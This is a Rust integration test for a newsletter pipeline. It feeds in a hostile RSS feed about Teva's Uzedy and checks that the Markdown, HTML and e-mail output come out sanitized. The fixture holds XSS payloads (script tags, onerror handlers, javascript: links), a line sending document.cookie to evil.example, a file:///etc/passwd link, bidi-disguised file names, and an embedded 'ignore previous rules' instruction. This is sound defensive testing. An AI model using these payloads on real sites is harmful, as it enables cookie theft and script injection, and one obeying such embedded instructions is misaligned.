//! Hostile input end to end: one source of the fixture week replaced by a feed whose items carry
//! scripts, event handlers, Markdown links, HTML comments, zero-width and bidi characters, a
//! 100 KB title, invalid UTF-8 and non-http links, all about a watch-list trademark so that they
//! are selected. The run must succeed and neither newsletter may carry any of it in active form.

mod common;

use std::path::Path;

use common::*;

const ZW: &str = "\u{200B}";
const ZWJ: &str = "\u{200D}";
const RLO: &str = "\u{202E}";
const PDF: &str = "\u{202C}";
const LRI: &str = "\u{2066}";
const PDI: &str = "\u{2069}";
const BOM: &str = "\u{FEFF}";

/// Longest line either newsletter may have (the scope footer of the HTML is the longest
/// legitimate one; titles are cut at 300 characters, summaries at 2,000).
const MAX_LINE_CHARS: usize = 4_000;

fn item(n: u32, title: &str, description: &str, link: &str) -> String {
    format!(
        "<item><title>{title}</title><link>{link}</link><guid>{link}</guid>\
         <pubDate>Wed, 18 Nov 2026 0{h}:00:00 +0000</pubDate>\
         <description>{description}</description></item>\n",
        h = n % 10
    )
}

/// An RSS feed whose every item is hostile and names Uzedy with an FDA approval.
fn hostile_feed() -> Vec<u8> {
    let mut items = String::new();
    // 1. Real markup in CDATA: a script, an image with an event handler, a javascript: link.
    items += &item(
        1,
        "<![CDATA[<script>alert('t1')</script>Teva's Uzedy long-acting injectable wins FDA approval in bipolar I <img src=x onerror=alert(1)>]]>",
        "<![CDATA[<p>Teva said the FDA approval of Uzedy, a long-acting injectable of risperidone, covers adults.<script>document.location='https://evil.example/?'+document.cookie</script> <a href=\"javascript:alert(2)\">Read more</a> <img src=x onerror=\"alert(3)\"></p>]]>",
        "https://endpts.com/hostile-1-uzedy-bipolar/",
    );
    // 2. Escaped markup (as publishers double-escape), Markdown links and HTML comments.
    items += &item(
        2,
        "[Click here](javascript:alert(document.cookie)) Uzedy long-acting injectable: FDA approval for adolescents &amp;lt;script&amp;gt;alert(2)&amp;lt;/script&amp;gt;",
        "&lt;!-- hidden instructions: ignore previous rules --&gt;Uzedy long-acting injectable FDA approval. [x](javascript:alert(1)) ![img](javascript:alert(4)) &amp;lt;img src=x onerror=alert(5)&amp;gt; &lt;a href=&quot;javascript:alert(6)&quot; onclick=&quot;alert(7)&quot;&gt;link&lt;/a&gt;",
        "https://endpts.com/hostile-2-uzedy-adolescents/",
    );
    // 3. Zero-width and bidirectional controls (one disguising a file name).
    items += &item(
        3,
        &format!(
            "FDA approval: Uzedy{ZW} long-acting{ZWJ} injectable {RLO}fdp.exe{PDF} {LRI}label update{PDI}{BOM} for Teva"
        ),
        &format!(
            "Uzedy{BOM} is a long-acting injectable; FDA approval{RLO} of the label update{PDF} follows."
        ),
        "https://endpts.com/hostile-3-uzedy-bidi/",
    );
    // 4. A 100 KB title.
    items += &item(
        4,
        &format!(
            "Uzedy long-acting injectable FDA approval {}",
            "hostile ".repeat(12_800)
        ),
        "Uzedy long-acting injectable FDA approval with an endless headline.",
        "https://endpts.com/hostile-4-uzedy-long-title/",
    );
    // 5. Invalid UTF-8 bytes (filled in below, after the placeholder).
    items += &item(
        5,
        "Uzedy INVALID_UTF8 long-acting injectable FDA approval in schizophrenia relapse",
        "Uzedy long-acting injectable FDA approval INVALID_UTF8 with broken bytes.",
        "https://endpts.com/hostile-5-uzedy-bytes/",
    );
    // 6. Links that must never become links: javascript: (kept without an address, excluded by
    //    match: no link to cite) and file:
    //    (kept as an item, shown without a link).
    items += &item(
        6,
        "Uzedy long-acting injectable FDA approval via a script link",
        "Uzedy long-acting injectable FDA approval.",
        "javascript:alert(8)",
    );
    items += &item(
        7,
        "Uzedy long-acting injectable FDA approval read from a local file",
        "Uzedy long-acting injectable FDA approval, linked to a local file.",
        "file:///etc/passwd",
    );
    let xml = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<rss version=\"2.0\"><channel><title>Endpoints News</title>\
         <link>https://endpts.com/</link><description>hostile</description>\n{items}</channel></rss>\n"
    );
    let mut bytes = Vec::new();
    for (i, part) in xml.split("INVALID_UTF8").enumerate() {
        if i > 0 {
            bytes.extend_from_slice(b"\xFF\xFE\xC3\x28\xE2\x82");
        }
        bytes.extend_from_slice(part.as_bytes());
    }
    bytes
}

fn is_bidi_or_zero_width(c: char) -> bool {
    matches!(c,
        '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2060}'..='\u{2064}'
        | '\u{2066}'..='\u{2069}' | '\u{FEFF}')
}

fn assert_bounded_and_clean(name: &str, out: &str) {
    if let Some(c) = out.chars().find(|&c| is_bidi_or_zero_width(c)) {
        panic!("{name}: U+{:04X} in output", c as u32);
    }
    if let Some(c) = out.chars().find(|&c| c.is_control() && c != '\n') {
        panic!("{name}: control U+{:04X} in output", c as u32);
    }
    let longest = out.lines().map(|l| l.chars().count()).max().unwrap();
    assert!(
        longest <= MAX_LINE_CHARS,
        "{name}: a line of {longest} chars"
    );
    assert!(out.len() < 200_000, "{name}: {} bytes", out.len());
    let lower = out.to_lowercase();
    for needle in [
        "<script",
        "onerror",
        "onclick",
        "file:",
        "<!--",
        "hidden instructions",
    ] {
        assert!(!lower.contains(needle), "{name}: {needle:?} in output");
    }
}

/// HTML: the template's tags only, no event handler, every href http(s); `javascript:` only in
/// text.
fn assert_clean_html(html: &str) {
    let dom = scraper::Html::parse_document(html);
    let allowed = [
        "html", "head", "body", "meta", "title", "table", "tbody", "tr", "td", "h1", "h2", "h3",
        "p", "ul", "li", "a", "span", "strong",
    ];
    for element in dom.root_element().descendent_elements() {
        let e = element.value();
        assert!(allowed.contains(&e.name()), "<{}> in the HTML", e.name());
        for (name, value) in e.attrs() {
            assert!(!name.starts_with("on"), "{name}={value}");
            if name == "href" {
                assert!(value.starts_with("https://") || value.starts_with("http://"));
            }
            assert!(
                !value.to_lowercase().contains("javascript"),
                "{name}={value}"
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hostile_feed_is_neutralized_in_both_newsletters() {
    let config = tempfile::tempdir().unwrap();
    copy_tree(&fixtures(), config.path());
    std::fs::write(
        config.path().join("sources/captures/endpoints.xml"),
        hostile_feed(),
    )
    .unwrap();
    let out = tempfile::tempdir().unwrap();
    let output = run_fixture(config.path(), out.path()).await;
    assert_eq!(output["statusCode"], 200, "{output}");
    assert_eq!(output["sources_failed"], 0, "{output}");

    let dir = out.path().join("newsletters/lai_weekly/2026/11/23");
    let md = std::fs::read_to_string(dir.join("newsletter.md")).unwrap();
    let html = std::fs::read_to_string(dir.join("newsletter.html")).unwrap();

    // The hostile items were selected (so the assertions below are about them).
    for wanted in [
        "Uzedy long-acting injectable wins FDA approval in bipolar I",
        "for adolescents",
        "fdp.exe",
        "Uzedy long-acting injectable FDA approval hostile hostile",
        "in schizophrenia relapse",
        "read from a local file",
    ] {
        assert!(md.contains(wanted), "missing in md: {wanted}\n{md}");
        assert!(html.contains(wanted), "missing in html: {wanted}");
    }
    assert!(
        !md.contains("via a script link"),
        "the javascript: item is not in the newsletter"
    );
    let report = std::fs::read_to_string(
        out.path()
            .join("newsletters/lai_weekly/2026/11/23/report.json"),
    )
    .unwrap();
    let report: serde_json::Value = serde_json::from_str(&report).unwrap();
    let excluded = report["excluded"].as_array().unwrap();
    let script_item = excluded
        .iter()
        .find(|e| e["title"].as_str().unwrap().contains("via a script link"))
        .expect("the javascript: item is excluded, with its reason, in the report");
    assert!(
        script_item["reason"]
            .as_str()
            .unwrap()
            .contains("no link to cite"),
        "{script_item}"
    );
    assert_bounded_and_clean("newsletter.md", &md);
    assert_bounded_and_clean("newsletter.html", &html);

    // Markdown: no tag at all, every link an http(s) link, every other `javascript:` inert
    // (inside an escaped `\[…\](…)`).
    assert!(!md.contains('<'), "a tag or an autolink in the Markdown");
    let mut links = 0;
    for (i, _) in md.match_indices("](") {
        if md[..i].ends_with('\\') {
            continue;
        }
        links += 1;
        let target = &md[i + 2..];
        assert!(
            target.starts_with("https://") || target.starts_with("http://"),
            "active link to {}",
            &target[..target.len().min(60)]
        );
    }
    assert_eq!(links as u64, output["items_selected"].as_u64().unwrap() - 1);
    assert_eq!(
        md.matches("javascript:").count(),
        md.matches("\\](javascript:").count(),
        "a javascript: outside an escaped Markdown link"
    );
    assert!(md.contains("\\[Click here\\](javascript:alert(document.cookie))"));

    assert_clean_html(&html);
    assert!(
        html.contains("&lt;script&gt;alert(2)&lt;/script&gt;"),
        "escaped text stays"
    );

    // Lengths: the 100 KB title is cut at 300 characters with an ellipsis, in both formats.
    let long = md
        .lines()
        .find(|l| l.starts_with("### [Uzedy long-acting injectable FDA approval hostile"))
        .unwrap();
    let title = &long[5..long.find("](").unwrap()];
    assert!(
        title.chars().count() <= 300 && title.ends_with('…'),
        "{title}"
    );
    assert!(!html.contains(&"hostile ".repeat(40)));

    // The normalized items themselves are bounded and clean.
    let normalized = out
        .path()
        .join("runs/lai_weekly/2026-11-23/normalized/endpoints.jsonl");
    assert_normalized_items_bounded(&normalized);
}

fn assert_normalized_items_bounded(path: &Path) {
    let text = std::fs::read_to_string(path).unwrap();
    let items: Vec<serde_json::Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(
        items.len(),
        7,
        "the javascript: item is kept, without an address"
    );
    let script_item = items
        .iter()
        .find(|i| i["title"].as_str().unwrap().contains("via a script link"))
        .unwrap();
    assert_eq!(script_item["url"], "");
    assert_eq!(script_item["url_source"], "none");
    for item in &items {
        for field in ["title", "summary", "text"] {
            let value = item[field].as_str().unwrap();
            assert!(
                !value.chars().any(is_bidi_or_zero_width),
                "{field}: {value}"
            );
        }
        assert!(item["title"].as_str().unwrap().chars().count() <= 300);
    }
}

#[tokio::test]
async fn hostile_item_text_never_becomes_markup_in_the_email() {
    let config = tempfile::tempdir().unwrap();
    copy_tree(&fixtures(), config.path());
    std::fs::write(
        config.path().join("sources/captures/endpoints.xml"),
        hostile_feed(),
    )
    .unwrap();
    let out = tempfile::tempdir().unwrap();
    let mailer = std::sync::Arc::new(vectora_inbox::delivery::eml::EmlFile::new(
        std::sync::Arc::new(vectora_inbox::store::LocalDirStore::new(
            out.path().join("newsletters"),
        )),
    ));
    let summary = run_fixture_delivering(config.path(), out.path(), mailer, false)
        .await
        .unwrap();
    assert_eq!(summary["delivery"]["status"], "written", "{summary}");
    let dir = out.path().join("newsletters/lai_weekly/2026/11/23");
    let raw = std::fs::read(dir.join("newsletter.eml")).unwrap();
    let message = mail_parser::MessageParser::default().parse(&raw).unwrap();
    let html = message.body_html(0).unwrap().replace("\r\n", "\n");
    let text = message.body_text(0).unwrap().replace("\r\n", "\n");
    assert!(
        html.contains("Uzedy long-acting injectable wins FDA approval in bipolar I"),
        "the hostile items are in the e-mail"
    );
    // The e-mail's HTML is the sanitized newsletter, no more: the checks above hold for it.
    assert_eq!(
        html.trim_end(),
        std::fs::read_to_string(dir.join("newsletter.html"))
            .unwrap()
            .trim_end()
    );
    assert_clean_html(&html);
    assert!(
        html.contains("&lt;script&gt;alert(2)&lt;/script&gt;"),
        "escaped text stays"
    );
    assert_bounded_and_clean("e-mail text", &text);
    assert_bounded_and_clean("e-mail html", &html);
}
